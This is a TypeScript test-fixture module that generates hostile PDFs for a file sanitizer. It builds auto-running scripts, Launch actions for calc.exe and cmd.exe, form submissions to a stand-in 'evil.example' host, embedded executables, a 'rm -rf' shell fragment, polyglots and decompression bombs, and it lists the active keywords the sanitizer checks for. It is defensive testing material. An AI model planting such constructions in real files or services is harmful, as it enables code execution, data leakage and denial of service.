import { createHash } from 'node:crypto';
import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { eicarTestFile } from '@participe/connectors/fake-virus-scanner';
import {
  buildPdf,
  endlessNumbersPdf,
  longStringPdf,
  buildExifData,
  squareDrawing,
  buildJpegSegment,
  buildJpeg,
  buildPdfStream,
  buildOnePagePdf,
  baselineJpeg,
  updatePdf,
} from '@participe/file-sanitizer/samples';
import {
  type HostileFile,
  buildHostileFileToSanitize,
  buildHostileFileToRefuse,
} from './hostile-file.ts';
import { buildPackedPdf } from './packed-pdf.ts';

const alert = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const launch = '<</S/Launch/F(calc.exe)/Win<</F(cmd.exe)>>>>';
const activeWords = ['app.alert', 'JavaScript', 'OpenAction', 'Launch', 'calc.exe', 'cmd.exe'];
const box = '/Type/Annot/Rect[0 0 50 50]';
const look = buildPdfStream(
  '1 0 0 rg 0 0 50 50 re f',
  '/Type/XObject/Subtype/Form/BBox[0 0 50 50]',
);

/** Returns a PDF image that declares the given size. */
const picture = (size: string, packed = '/DCTDecode'): Buffer =>
  buildPdfStream(
    baselineJpeg(),
    `/Type/XObject/Subtype/Image${size}/ColorSpace/DeviceGray/BitsPerComponent 8/Filter${packed}`,
  );

/** Returns a stream of compressed zeros that takes very long to decompress. */
function buildSlowStream(megabytes = 300): Buffer {
  const once = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    ...Array.from({ length: megabytes }, () => once),
    Buffer.from([3, 0]),
  ]);
}

const program = Buffer.concat([Buffer.from('MZ'), Buffer.from('This program cannot be run')]);

/** PDFs with active content or attachments, of which the service stores only the pages. */
const pdfsToSanitize: readonly HostileFile[] = [
  buildHostileFileToSanitize(
    'a PDF with a script that runs when it is opened',
    () => buildOnePagePdf({ catalog: `/OpenAction ${alert}` }),
    activeWords,
  ),
  buildHostileFileToSanitize(
    'a PDF with a script in its name tree',
    () => buildOnePagePdf({ catalog: `/Names<</JavaScript<</Names[(a) ${alert}]>>>>` }),
    activeWords,
  ),
  buildHostileFileToSanitize(
    'a PDF page with a script that runs when it is shown',
    () => buildOnePagePdf({ page: `/AA<</O ${alert}>>` }),
    activeWords,
  ),
  buildHostileFileToSanitize(
    'a PDF with a script under escaped names',
    () => buildOnePagePdf({ catalog: '/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>' }),
    activeWords,
  ),
  buildHostileFileToSanitize(
    'a PDF with a script in an object stream',
    () => buildPackedPdf(`/OpenAction ${alert}`),
    activeWords,
  ),
  buildHostileFileToSanitize(
    'a PDF with a script in an incremental update',
    () => updatePdf(buildOnePagePdf(), 1, [`<</Type/Catalog/Pages 2 0 R/OpenAction ${alert}>>`]),
    activeWords,
  ),
  buildHostileFileToSanitize(
    'a PDF with a link that starts a program',
    () => buildOnePagePdf({ page: `/Annots[<<${box}/Subtype/Link/A ${launch}>>]` }),
    activeWords,
  ),
  buildHostileFileToSanitize(
    'a PDF with a link to a website',
    () =>
      buildOnePagePdf({
        page: `/Annots[<<${box}/Subtype/Link/A<</S/URI/URI(http://evil.example/)>>>>]`,
      }),
    ['evil.example', 'URI'],
  ),
  buildHostileFileToSanitize(
    'a PDF with a button that submits a form',
    () =>
      buildOnePagePdf({
        page: `/Annots[<<${box}/Subtype/Widget/FT/Btn/AP<</N 5 0 R>>/A<</S/SubmitForm/F(http://evil.example/)>>>>]`,
        more: [look],
      }),
    ['evil.example', 'SubmitForm', 'Widget'],
  ),
  buildHostileFileToSanitize(
    'a PDF with a script for each keystroke in a field',
    () =>
      buildOnePagePdf({
        catalog: '/AcroForm<</Fields[6 0 R]/NeedAppearances true>>',
        page: '/Annots[6 0 R]',
        more: [look, `<<${box}/Subtype/Widget/FT/Tx/T(a)/V(b)/AP<</N 5 0 R>>/AA<</K ${alert}>>>>`],
      }),
    [...activeWords, 'AcroForm', 'Widget'],
  ),
  buildHostileFileToSanitize(
    'a PDF with an XFA form',
    () =>
      buildOnePagePdf({ catalog: '/AcroForm<</XFA 5 0 R>>', more: [buildPdfStream('<xdp:xdp/>')] }),
    ['XFA', 'xdp'],
  ),
  buildHostileFileToSanitize(
    'a PDF with an embedded program',
    () =>
      buildOnePagePdf({
        catalog: '/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>',
        more: [
          '<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>',
          buildPdfStream(program, '/Type/EmbeddedFile'),
        ],
      }),
    ['EmbeddedFile', 'a.exe', 'cannot be run'],
  ),
  buildHostileFileToSanitize(
    'a PDF with a program attached to a page',
    () =>
      buildOnePagePdf({
        page: `/Annots[<<${box}/Subtype/FileAttachment/FS 5 0 R/AP<</N 7 0 R>>>>]`,
        more: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', buildPdfStream(program), look],
      }),
    ['FileAttachment', 'a.exe', 'cannot be run'],
  ),
  buildHostileFileToSanitize(
    'a PDF with a video',
    () =>
      buildOnePagePdf({
        page: `/Annots[<<${box}/Subtype/RichMedia/RichMediaContent 5 0 R/AP<</N 6 0 R>>>>]`,
        more: [buildPdfStream('FWS'), look],
      }),
    ['RichMedia', 'FWS'],
  ),
  buildHostileFileToSanitize(
    'a PDF with a drawing in another file',
    () =>
      buildOnePagePdf({
        resources: '/XObject<</X 5 0 R>>',
        more: [
          buildPdfStream(
            squareDrawing,
            '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(//evil.example/x)',
          ),
        ],
      }),
    ['evil.example'],
  ),
  buildHostileFileToSanitize(
    'a PDF with a photograph that contains its location',
    () =>
      buildOnePagePdf({
        resources: '/XObject<</X 5 0 R>>',
        more: [
          buildPdfStream(
            buildJpeg(
              buildExifData(1, 'GPS 40.4168N'),
              buildJpegSegment(0xfe, Buffer.from('<?php')),
            ),
            '/Type/XObject/Subtype/Image/Width 20/Height 12/Filter/DCTDecode',
          ),
        ],
      }),
    ['GPS', 'Exif', 'php'],
  ),
  buildHostileFileToSanitize(
    'a PDF with metadata about its author',
    () =>
      buildOnePagePdf({
        catalog: '/Metadata 5 0 R/PieceInfo<</A<</Private 5 0 R>>>>',
        more: [
          buildPdfStream('<x:xmpmeta>Ana Martínez</x:xmpmeta>'),
          '<</Author(Ana)/Title(Secreto)>>',
        ],
        trailer: '/Info 6 0 R',
      }),
    ['xmpmeta', 'Secreto', 'Author'],
  ),
  buildHostileFileToSanitize(
    'a PDF with an object that no page uses',
    () => buildOnePagePdf({ more: [buildPdfStream('#!/bin/sh rm -rf')] }),
    ['/bin/sh'],
  ),
];

const cut = (bytes: Buffer, from: string, to: string): Buffer =>
  Buffer.from(bytes.toString('latin1').replace(from, to), 'latin1');
const digest = createHash('md5').update('key').digest('hex');

/** Returns a PDF that takes long to read and is then refused for its broken end. */
export const slowPdf = (): Buffer =>
  buildOnePagePdf({ content: buildPdfStream(buildSlowStream(60), '/Filter/FlateDecode') });

/** Encrypted, broken, polyglot PDFs, and PDFs that are oversized when unpacked. */
const pdfsToRefuse: readonly HostileFile[] = [
  buildHostileFileToRefuse('an encrypted PDF', () =>
    buildOnePagePdf({
      trailer: `/Encrypt<</Filter/Standard/V 1/R 2/P -4>>/ID[<${digest}><${digest}>]`,
    }),
  ),
  buildHostileFileToRefuse('a PDF with an encrypted stream', () =>
    buildOnePagePdf({ content: buildPdfStream(squareDrawing, '/Filter/Crypt') }),
  ),
  buildHostileFileToRefuse('a truncated PDF', () => buildOnePagePdf().subarray(0, 200)),
  buildHostileFileToRefuse('a PDF without its last line', () => buildOnePagePdf().subarray(0, -7)),
  buildHostileFileToRefuse('only the first line of a PDF', () => Buffer.from('%PDF-1.7\n')),
  buildHostileFileToRefuse('a PDF followed by a ZIP file', () =>
    Buffer.concat([buildOnePagePdf(), Buffer.from('PK\u0003\u0004')]),
  ),
  buildHostileFileToRefuse('a PDF followed by a script', () =>
    Buffer.concat([buildOnePagePdf(), Buffer.from('<script>alert(1)</script>')]),
  ),
  buildHostileFileToRefuse('a GIF followed by a PDF', () =>
    Buffer.concat([Buffer.from('GIF89a'), buildOnePagePdf()]),
  ),
  buildHostileFileToRefuse('a PDF in an HTML comment', () =>
    Buffer.concat([Buffer.from('<!--'), buildOnePagePdf()]),
  ),
  buildHostileFileToRefuse('a PDF after a byte order mark', () =>
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), buildOnePagePdf()]),
  ),
  buildHostileFileToRefuse('a PDF with wrong offsets in its cross-reference table', () =>
    cut(buildOnePagePdf(), '%\u00e2\u00e3\u00cf\u00d3\n', '% moved everything\n'),
  ),
  buildHostileFileToRefuse('a PDF that declares 999,999,999 objects', () =>
    cut(buildOnePagePdf(), '1 4\n0', '1 999999999\n0'),
  ),
  buildHostileFileToRefuse('a PDF whose cross-reference table refers to itself', () => {
    const text = buildOnePagePdf().toString('latin1');
    return Buffer.from(
      text.replace(/>>\nstartxref\n(\d+)/u, '/Prev $1>>\nstartxref\n$1'),
      'latin1',
    );
  }),
  buildHostileFileToRefuse('a PDF without a page', () =>
    buildPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>']),
  ),
  buildHostileFileToRefuse('a PDF whose page tree contains itself', () =>
    buildPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 1>>']),
  ),
  buildHostileFileToRefuse('a PDF with a recursive object stream', () => buildPackedPdf('', true)),
  buildHostileFileToRefuse('a PDF with 5,000 nested arrays', () =>
    buildOnePagePdf({ resources: `/Font ${'['.repeat(5000)}${']'.repeat(5000)}` }),
  ),
  buildHostileFileToRefuse('a PDF with a stream longer than the file', () =>
    buildOnePagePdf({ content: Buffer.from('<</Length 99999999>>\nstream\nx\nendstream') }),
  ),
  buildHostileFileToRefuse('a PDF with a stream whose length refers to itself', () =>
    buildOnePagePdf({ content: Buffer.from('<</Length 4 0 R>>\nstream\nx\nendstream') }),
  ),
  buildHostileFileToRefuse('a PDF with a stream that decompresses to 300 megabytes', () =>
    buildOnePagePdf({ content: buildPdfStream(buildSlowStream(), '/Filter/FlateDecode') }),
  ),
  buildHostileFileToRefuse('a PDF with a stream that is compressed twice', () =>
    buildOnePagePdf({
      content: buildPdfStream(deflateSync(buildSlowStream()), '/Filter[/FlateDecode/FlateDecode]'),
    }),
  ),
  buildHostileFileToRefuse('a PDF with a packed long string', longStringPdf),
  buildHostileFileToRefuse('a PDF of fifty million objects', endlessNumbersPdf),
  buildHostileFileToRefuse('a PDF with a huge run-length stream', () =>
    buildOnePagePdf({
      content: buildPdfStream(Buffer.alloc(5 * 1024 * 1024, 0x81), '/Filter/RunLengthDecode'),
    }),
  ),
  buildHostileFileToRefuse('a PDF with an image of 100,000 by 100,000 pixels', () =>
    buildOnePagePdf({
      resources: '/XObject<</X 5 0 R>>',
      more: [picture('/Width 100000/Height 100000')],
    }),
  ),
  buildHostileFileToRefuse('a PDF with an image under an unknown filter', () =>
    buildOnePagePdf({
      resources: '/XObject<</X 5 0 R>>',
      more: [picture('/Width 9/Height 9', '/MadeUpDecode')],
    }),
  ),
  buildHostileFileToRefuse('a PDF in which the scanner finds malware', () =>
    buildOnePagePdf({ content: buildPdfStream(`% ${eicarTestFile}`) }),
  ),
];

export const hostilePdfs: readonly HostileFile[] = [...pdfsToSanitize, ...pdfsToRefuse];
